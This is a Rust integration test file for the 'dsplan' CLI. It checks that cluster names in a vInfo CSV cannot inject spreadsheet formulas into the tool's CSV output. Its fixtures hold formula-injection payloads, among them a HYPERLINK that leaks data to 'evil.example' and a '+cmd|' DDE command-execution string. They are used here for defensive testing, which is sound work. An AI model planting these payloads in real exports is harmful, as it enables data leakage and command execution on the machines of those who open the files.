//! Hostile names from the input cannot attack what reads dsplan's output: a CSV cell that
//! starts like a formula (`=HYPERLINK(...)`) is written with a leading `'`, and control
//! characters (ESC, BEL, C1) and bidi overrides never reach a terminal or a Markdown
//! viewer raw, on stdout or stderr. Every fixture is written by the test.

// Runs the `dsplan` binary, which the `cli` feature builds.
#![cfg(feature = "cli")]

include!("support/command.rs");

/// One row of a made-up vInfo CSV: `(VM name, template, cluster)`; 2 vCPUs, 8,192 MiB,
/// 51,200 MiB in use, VM ID `vm-<row>`.
fn vinfo(rows: &[(&str, bool, &str)]) -> String {
    let q = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
    let mut csv = String::from(
        "\"VM\",\"Powerstate\",\"Template\",\"CPUs\",\"Memory\",\"Provisioned MiB\",\
         \"In Use MiB\",\"Path\",\"Datacenter\",\"Cluster\",\"Host\",\"VM ID\",\
         \"VI SDK Server\"\r\n",
    );
    for (i, (name, template, cluster)) in rows.iter().enumerate() {
        let cells = [
            q(name),
            q("poweredOn"),
            q(if *template { "True" } else { "False" }),
            q("2"),
            q("8192"),
            q("102400"),
            q("51200"),
            q(&format!("[ds] {name}/{name}.vmx")),
            q("DC1"),
            q(cluster),
            q("esx1"),
            q(&format!("vm-{i}")),
            q("vc1.example.test"),
        ];
        csv.push_str(&cells.join(","));
        csv.push_str("\r\n");
    }
    csv
}

/// `text` written to `name` in this test's own folder under the system temporary folder
/// (`test` tells the tests apart); returns the file's path.
fn fixture(test: &str, name: &str, text: &[u8]) -> String {
    let dir = std::env::temp_dir().join(format!("dsplan-safe-{}-{test}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path.to_string_lossy().into_owned()
}

/// The cluster names of the formula-injection reproducer: each starts with a character a
/// spreadsheet reads as a formula.
const FORMULA_CLUSTERS: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?leak\",\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
];

/// The text columns of the plan CSV ([`dsplan::report::tables::PLAN_CSV_HEADER`]); every
/// other column is a figure dsplan writes itself: a number, never quoted.
const TEXT_COLUMNS: [&str; 6] = [
    "datastore",
    "pool",
    "service_level",
    "pool_cool_access",
    "region",
    "prices_effective",
];

#[test]
fn csv_cells_from_names_cannot_start_a_formula() {
    let rows: Vec<(&str, bool, &str)> = FORMULA_CLUSTERS
        .iter()
        .enumerate()
        .flat_map(|(i, c)| {
            let names = [
                ["v0-0", "v0-1"],
                ["v1-0", "v1-1"],
                ["v2-0", "v2-1"],
                ["v3-0", "v3-1"],
                ["v4-0", "v4-1"],
            ];
            names[i].map(|n| (n, false, *c))
        })
        .collect();
    let path = fixture("csvinj", "csvinj.csv", vinfo(&rows).as_bytes());
    let o = dsplan(&["plan", &path, "--per-cluster", "--format", "csv"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let mut r = csv::Reader::from_reader(o.stdout.as_slice());
    let header = r.headers().unwrap().clone();
    let col = |h: &str| header.iter().position(|x| x == h).unwrap();
    let (cluster, size) = (col("cluster"), col("size_gib"));
    let mut seen = std::collections::BTreeSet::new();
    for rec in r.records() {
        let rec = rec.unwrap();
        let c = &rec[cluster];
        // Every cluster cell is one of the hostile names with a leading `'` (the reader
        // trims a cell's surrounding blanks: the tab before `=1+1` is gone, its `=` starts
        // the name).
        assert!(
            FORMULA_CLUSTERS
                .iter()
                .any(|f| c == format!("'{}", f.trim())),
            "cluster cell {c:?}"
        );
        seen.insert(c.to_string());
        // No cell of the row starts a formula unquoted.
        for cell in rec.iter() {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r']),
                "{cell:?} in {rec:?}"
            );
        }
        // Figures stay numbers (no `'` before them): each figure column parses as one, and
        // the datastore size is positive.
        let figures = dsplan::report::tables::PLAN_CSV_HEADER
            .iter()
            .filter(|h| !TEXT_COLUMNS.contains(h));
        for h in figures {
            assert!(rec[col(h)].parse::<f64>().is_ok(), "{h}: {rec:?}");
        }
        assert!(rec[size].parse::<f64>().unwrap() > 0.0, "{rec:?}");
    }
    // One plan per hostile cluster (five clusters of two VMs each).
    assert_eq!(seen.len(), 5, "{seen:?}");
}

#[test]
fn estate_csv_cells_cannot_start_a_formula() {
    // The estate CSV (no --per-cluster; --design anf so every cluster has datastore rows)
    // names its AVS clusters after the input's (`avs-` first): no cell starts a formula,
    // but a number (a negative figure would start with `-` and stay a number).
    let rows = [
        ("a-0", false, "=1+1"),
        ("b-0", false, "@SUM(1+1)"),
        ("c-0", false, "Prod"),
    ];
    let path = fixture("estate-csv", "estate.csv", vinfo(&rows).as_bytes());
    let o = dsplan(&["plan", &path, "--design", "anf", "--format", "csv"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let mut r = csv::Reader::from_reader(o.stdout.as_slice());
    let mut n = 0;
    for rec in r.records() {
        for cell in rec.unwrap().iter() {
            let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(!formula || cell.parse::<f64>().is_ok(), "{cell:?}");
        }
        n += 1;
    }
    // One datastore row per cluster at least: three clusters.
    assert!(n >= 3, "{n} rows");
}
